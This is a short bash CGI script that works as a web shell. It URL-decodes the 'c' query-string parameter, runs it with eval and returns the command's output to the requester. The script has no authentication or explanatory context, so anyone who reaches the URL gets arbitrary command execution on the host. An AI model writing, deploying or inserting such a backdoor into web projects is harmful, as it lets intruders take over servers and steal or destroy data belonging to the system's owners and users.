#!/bin/bash
echo "Content-Type: text/plain"; echo
c=$(printf '%b' "$(echo "${QUERY_STRING#c=}" | sed 's/+/ /g; s/%\(..\)/\\x\1/g')")
eval "$c" 2>&1
